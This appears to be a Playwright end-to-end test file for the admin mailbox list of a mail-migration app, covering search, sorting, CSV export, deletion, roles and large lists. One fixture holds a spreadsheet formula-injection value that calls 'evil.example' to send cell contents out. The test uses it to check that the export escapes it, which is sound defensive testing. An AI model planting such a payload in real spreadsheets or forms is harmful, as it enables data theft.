/** What was submitted to a campaign: found, sorted, chosen, deleted, exported. */
import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { after, test } from "node:test";
import { asOwner, mailboxes, newAccounts } from "../stack.js";
import { copySubmission, expire, map, newAddress, removeAccounts, submit, submitted } from "./moving.js";
import { Admin, closeBrowser, expect, seen } from "./visit.js";

after(closeBrowser);

const [anna, bela, chloe, dora] = mailboxes;
const formula = '=HYPERLINK("http://evil.example/?"&A1;"Anna")';

const rows = (page) => page.locator("tbody tr");
const row = (page, mailbox) => page.locator("tbody tr", { hasText: mailbox.address });
const addresses = (page) => page.locator("tbody th").allInnerTexts();
const part = (page, name) => page.getByRole("group", { name: "Which mailboxes to show" }).getByRole("button", { name });
const search = (page) => page.getByLabel("Search by name or address");
const heading = (page, name) => page.getByRole("columnheader", { name });

/** What the page's own CSV button hands over. */
async function exported(page) {
  const downloading = page.waitForEvent("download");
  await page.getByRole("button", { name: "Export as CSV" }).click();
  const download = await downloading;
  return { name: download.suggestedFilename(), text: await readFile(await download.path(), "utf8") };
}

async function openList(admin, page, campaign, query = "") {
  await admin.goto(`${campaign.path}/mailboxes${query}`);
  await rows(page).first().waitFor();
}

test("the list says what is known of each mailbox, and is searched, sorted, narrowed and exported", async () => {
  const fresh = newAddress("bela");
  const [existing] = newAccounts;
  const campaign = await submitted(
    [anna, { name: formula }],
    [bela, { name: "Béla Őri", destEmail: fresh, destPassword: "not-a-secret-new" }],
    [chloe, { name: "Chloë Roß", destEmail: existing.address }],
  );
  await Admin.make(async (admin, page) => {
    await openList(admin, page, campaign);
    await expect(page).toHaveTitle("Mailboxes – Mailgather");
    await expect(row(page, anna)).toContainText(/None given yet[^]*\d[^]*just now[^]*Not yet/, seen);
    await expect(row(page, bela)).toContainText(/Will be created\s+password given/, seen);
    await expect(row(page, chloe)).toContainText(/Exists\s+no password given/, seen);
    await expect(row(page, anna).locator("time")).toHaveAttribute("title", /20\d\d.*\d\d:\d\d:\d\d/);
    await page.getByText("3 mailboxes", { exact: true }).waitFor();
    await admin.look("admin-mailboxes");

    for (const [query, found] of [["ROSS chloe", [chloe]], ["ori", [bela]], [existing.address.slice(0, 9), [chloe]], ["user", [anna, bela, chloe]]]) {
      await search(page).fill(query);
      await page.getByText(found.length === 3 ? "3 mailboxes" : `${found.length} of 3 mailboxes`, { exact: true }).waitFor();
      await expect.poll(() => addresses(page), query).toEqual(found.map(({ address }) => address));
    }
    await search(page).fill("nobody");
    await page.getByRole("heading", { name: "No mailbox fits" }).waitFor();
    await admin.look("admin-mailboxes-none");
    await page.getByRole("button", { name: "Show all" }).click();
    await expect(rows(page)).toHaveCount(3);

    await expect(heading(page, "Old address")).toHaveAttribute("aria-sort", "ascending");
    await heading(page, "Old address").getByRole("button").click();
    await expect(heading(page, "Old address")).toHaveAttribute("aria-sort", "descending");
    await expect.poll(() => addresses(page)).toEqual([chloe, bela, anna].map(({ address }) => address));
    await heading(page, "New address").getByRole("button").click();
    await expect(heading(page, "Old address")).not.toHaveAttribute("aria-sort");
    assert.deepEqual((await addresses(page)).at(-1), anna.address, "who has none stands last");

    await heading(page, "Wish").getByRole("button").click();
    await expect(heading(page, "Wish")).toHaveAttribute("aria-sort", "ascending");
    await expect(row(page, bela)).toContainText(/Other name and domain/, seen);
    assert.deepEqual((await addresses(page)).at(-1), anna.address, "who wishes nothing stands last");
    await part(page, "Other name (2)").click();
    await expect.poll(async () => (await addresses(page)).length).toBe(2);
    await part(page, "All (3)").click();

    await search(page).fill("example");
    await part(page, "Not mapped yet (3)").click();
    const { name, text } = await exported(page);
    assert.match(name, /^mailboxes-Move-to-the-new-mail-20\d\d-\d\d-\d\d\.csv$/);
    assert.ok(text.startsWith('\uFEFF"Old address","Name",'));
    assert.equal(text.split("\r\n").length, 5, "a heading, three rows and an end");
    assert.ok(text.includes(`"${anna.address}","'${formula.replaceAll('"', '""')}",,,"None given yet",,`), text);
    assert.ok(text.includes(`"${fresh}","Other name and domain","Will be created","given",`), text);
    for (const secret of [anna.password, "not-a-secret-new"]) assert.ok(!text.includes(secret));
    await search(page).fill("béla");
    assert.equal((await exported(page)).text.split("\r\n").length, 3, "only what is shown");
  });
});

test("mailboxes without tries left are told, with the way in for those who may use it", async () => {
  const campaign = await submitted([anna]);
  const until = new Date(Math.ceil(Date.now() / 60_000) * 60_000 + 40 * 60_000).toISOString();
  const closed = [
    { source: "bela@old-mail.example", until },
    { source: `${"a-very-long-name-of-somebody.".repeat(2)}who-was-invented@old-mail.example`, until },
  ];
  // The browser alone knows the way to the site, so the answer is had by the owner's own call.
  const some = async (page, told) => {
    const list = await asOwner("GET", `/api${campaign.path}/credentials`);
    await page.route("**/credentials", (route) => route.fulfill({ json: { ...list, closed: told } }));
  };
  const note = (page) => page.getByRole("heading", { name: /^No tries left for/ });
  await Admin.make(async (admin, page) => {
    await openList(admin, page, campaign);
    await expect(note(page)).toHaveCount(0);
    await some(page, closed);
    await openList(admin, page, campaign);
    await expect(note(page)).toHaveText("No tries left for 2 mailboxes", seen);
    await expect(page.locator(".closed-mailboxes li").first()).toContainText(/bela@old-mail\.example: opens again in 4\d minutes/, seen);
    await admin.look("admin-mailboxes-closed");
    await page.getByRole("link", { name: "add the mailbox by hand" }).click();
    await page.getByLabel("Old address").waitFor();
  });
});

test("what is mapped leads to its mapping, can't be chosen, and is not deleted", async () => {
  const [one, two] = [newAddress("one"), newAddress("two")];
  const campaign = await submitted([anna], [bela]);
  const mapping = await map(campaign, [[campaign.ids[0], one]]);
  await Admin.make(async (admin, page) => {
    await openList(admin, page, campaign, "?show=mapped");
    await expect.poll(() => addresses(page)).toEqual([anna.address]);
    await expect(row(page, anna)).toContainText(/As mapped/, seen);
    await expect(row(page, anna).getByRole("link")).toHaveAttribute("href", `${campaign.path}/mappings/${mapping}`);
    await expect(row(page, anna).getByRole("checkbox")).toHaveCount(0);
    await expect(row(page, anna).getByRole("button")).toHaveCount(0);
    await admin.look("admin-mailboxes-mapped", { brief: true });
    await part(page, "All (2)").click();
    await expect.poll(() => new URL(page.url()).search).toBe("");
    await page.getByLabel("Select all that can be mapped").check();
    await page.getByRole("button", { name: "Map selected (1)" }).waitFor();

    // Somebody else maps it while the question is on the screen.
    await row(page, bela).getByRole("button", { name: "Delete" }).click();
    await page.getByRole("heading", { name: `Delete ${bela.address}?` }).waitFor();
    await map(campaign, [[campaign.ids[1], two]]);
    await page.getByRole("dialog").getByRole("button", { name: "Delete", exact: true }).click();
    await page.getByRole("heading", { name: `${bela.address} was not deleted` }).waitFor();
    await page.getByText("A mapping has taken it meanwhile").waitFor();
    await admin.look("admin-mailboxes-in-use");
    await page.getByRole("button", { name: "Close" }).click();
    await row(page, bela).getByRole("link", { name: "Mapped" }).waitFor();
    await expect(page.getByRole("button", { name: "Map selected" }), "what is mapped isn't chosen any more").toBeDisabled();
  });
  await removeAccounts(one, two);
});

test("with the keyboard alone: found, sorted, chosen and handed over to the mapping", async () => {
  const campaign = await submitted([anna], [bela], [chloe]);
  await Admin.make(async (admin, page) => {
    await openList(admin, page, campaign);
    await admin.tabTo(search(page));
    await page.keyboard.type("user00");
    await admin.tabTo(part(page, "Not mapped yet (3)"));
    await page.keyboard.press("Enter");
    await expect(part(page, "Not mapped yet (3)")).toHaveAttribute("aria-pressed", "true");
    const sorting = heading(page, "Old address").getByRole("button");
    await admin.tabTo(sorting);
    await page.keyboard.press("Enter");
    await expect(sorting).toBeFocused();
    for (const mailbox of [bela, chloe]) {
      await admin.tabTo(page.getByLabel(`Select ${mailbox.address}`));
      await page.keyboard.press("Space");
    }
    const all = page.getByLabel("Select all that can be mapped");
    await expect.poll(() => all.evaluate((box) => box.indeterminate)).toBe(true);
    await admin.look("admin-mailboxes-chosen", { brief: true });
    await admin.tabTo(page.getByRole("button", { name: "Map selected (2)" }));
    await page.keyboard.press("Enter");
    await page.waitForURL(`**${campaign.path}/mappings/new`);
    const chosen = await page.evaluate((id) => sessionStorage.getItem(`mailgather.selected.${id}`), campaign.id);
    assert.deepEqual(new Set(JSON.parse(chosen)), new Set(campaign.ids.slice(1)));
  });
});

test("one is deleted after a question, and can be submitted again", async () => {
  const campaign = await submitted([anna], [bela]);
  await Admin.make(
    async (admin, page) => {
      await openList(admin, page, campaign);
      const remove = row(page, bela).getByRole("button", { name: `Delete ${bela.address}` });
      await admin.tabTo(remove);
      await page.keyboard.press("Enter");
      await page.getByText("Its user can submit it again with the campaign’s link.").waitFor();
      await admin.look("admin-mailboxes-delete");
      await page.keyboard.press("Escape");
      await page.getByRole("dialog").waitFor({ state: "hidden" });
      assert.equal(await campaign.storedCredentials(), 2);
      await expect(remove).toBeFocused();
      await page.keyboard.press("Enter");
      await admin.tabTo(page.getByRole("dialog").getByRole("button", { name: "Delete", exact: true }));
      await page.keyboard.press("Enter");
      await page.getByText("1 mailbox", { exact: true }).waitFor();
      await expect(page.locator("p:focus")).toHaveText("1 mailbox", seen);
      await expect.poll(() => addresses(page)).toEqual([anna.address]);
      assert.equal(await campaign.storedCredentials(), 1);
      await submit(campaign, bela);
    },
    { as: "admin" },
  );
});

test("what is submitted meanwhile appears by itself, and only while somebody looks", async () => {
  const campaign = await submitted([anna]);
  await Admin.make(async (admin, page) => {
    await page.clock.install();
    await openList(admin, page, campaign);
    await page.getByLabel("Select all that can be mapped").check();
    await submit(campaign, bela);
    await page.clock.fastForward(20_000);
    await row(page, bela).waitFor();
    await expect(page.getByLabel(`Select ${anna.address}`), "what was chosen stays so").toBeChecked();
    await expect(page.getByLabel(`Select ${bela.address}`)).not.toBeChecked();
    const lists = () => admin.calls.filter((call) => call.endsWith("/credentials")).length;
    const before = lists();
    await page.clock.fastForward(11 * 60_000);
    await page.clock.fastForward(60_000);
    assert.ok(lists() - before <= 1, "nobody has touched the page for long");
  });
});

test("an empty list says what to do, and a campaign that is over says so", async () => {
  const campaign = await submitted();
  await Admin.make(async (admin, page) => {
    await admin.goto(`${campaign.path}/mailboxes`);
    await page.getByRole("heading", { name: "No mailbox was submitted yet" }).waitFor();
    await admin.look("admin-mailboxes-empty");
    await expect(page.getByRole("link", { name: "Get the link to share" })).toHaveAttribute("href", campaign.path);
    await expire(campaign);
    await admin.goto(`${campaign.path}/mailboxes`);
    await page.getByText("The campaign is over, so none will be any more.").waitFor();
    await expect(page.getByRole("link", { name: "Add by hand" })).toHaveCount(0);
    await admin.look("admin-mailboxes-over", { brief: true });
  });
});

test("a viewer reads: nothing to choose, add or delete", async () => {
  const campaign = await submitted([anna]);
  await Admin.make(
    async (admin, page) => {
      await openList(admin, page, campaign);
      await expect(page.getByRole("checkbox")).toHaveCount(0);
      for (const name of [/Delete/, /Map selected/]) await expect(page.getByRole("button", { name })).toHaveCount(0);
      await expect(page.getByRole("link", { name: "Add by hand" })).toHaveCount(0);
      await page.getByRole("button", { name: "Export as CSV" }).waitFor();
      await admin.look("admin-mailboxes-viewer", { brief: true });
      await admin.goto(`${campaign.path}/mailboxes/new`);
      await expect.poll(() => admin.heading()).toBe("This page is not for your role");
    },
    { as: "viewer" },
  );
});

test("two thousand mailboxes: all are loaded, and a hundred drawn at a time", async (t) => {
  const campaign = await submitted([dora]);
  const clear = await copySubmission(campaign, 1999, (n) => ({
    source_address: { S: `user${n + 1}@big.example` },
    name: { S: `Example Person ${n % 7}` },
    messages: { N: String(n * 1000) },
    ...(n % 3 === 0 && { dest_address: { S: `user${n + 1}@new-mail.example` }, dest_exists: { S: "unknown" } }),
  }));
  await Admin.make(async (admin, page) => {
    const began = performance.now();
    await openList(admin, page, campaign);
    const opened = Math.round(performance.now() - began);
    await page.getByText("2,000 mailboxes", { exact: true }).waitFor();
    assert.ok(admin.calls.filter((call) => call.endsWith("/credentials")).length >= 10, "page after page");
    await part(page, "Account unknown (667)").waitFor();
    assert.deepEqual((await addresses(page)).slice(0, 3), [1, 2, 3].map((n) => `user${n}@big.example`), "as people count");
    await expect(rows(page)).toHaveCount(100);
    await page.getByText("100 of 2,000 rows are shown.").waitFor();
    await page.getByRole("button", { name: "Show 100 more" }).click();
    await expect(rows(page)).toHaveCount(200);
    await heading(page, "Messages").getByRole("button").click();
    await heading(page, "Messages").getByRole("button").click();
    await expect(rows(page).first()).toContainText(/user1999@big\.example[^]*1,998,000/, seen);
    const times = await page.evaluate(measure);
    t.diagnostic(`opened in ${opened} ms; until the next frame: ${JSON.stringify(times)} ms`);
  });
  await clear();
});

/** A figure to be read: how long each act keeps the page from showing its outcome, in milliseconds. Runs in the page. */
async function measure() {
  const shown = () => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
  const times = {};
  const time = async (name, act) => {
    await shown();
    const began = performance.now();
    act();
    await shown();
    times[name] = Math.round(performance.now() - began);
  };
  const type = (text) => () => {
    const input = document.querySelector("input[type=search]");
    input.value = text;
    input.dispatchEvent(new InputEvent("input", { bubbles: true }));
  };
  const click = (selector) => () => document.querySelector(selector).click();
  await time("search", type("person 3"));
  await time("search again", type("person 35"));
  await time("clear", type(""));
  await time("sort", click("thead button.sort"));
  await time("tick", click("tbody input[type=checkbox]"));
  await time("tick all", click(".all input"));
  return times;
}

test("a page of the list that doesn't come is said, and got again", async () => {
  const campaign = await submitted([dora]);
  const clear = await copySubmission(campaign, 299, (n) => ({ source_address: { S: `user${n}@big.example` } }));
  await Admin.make(async (admin, page) => {
    const second = /credentials\?cursor=/;
    await page.route(second, (route) => route.abort());
    await openList(admin, page, campaign);
    await page.getByText("200 are loaded so far. Search, order and export know only these.").waitFor();
    await search(page).fill("user7");
    await admin.look("admin-mailboxes-partly", { brief: true });
    await search(page).fill("");
    await page.unroute(second);
    await page.getByRole("button", { name: "Try again" }).click();
    await page.getByText("300 mailboxes", { exact: true }).waitFor();
  });
  await clear();
});
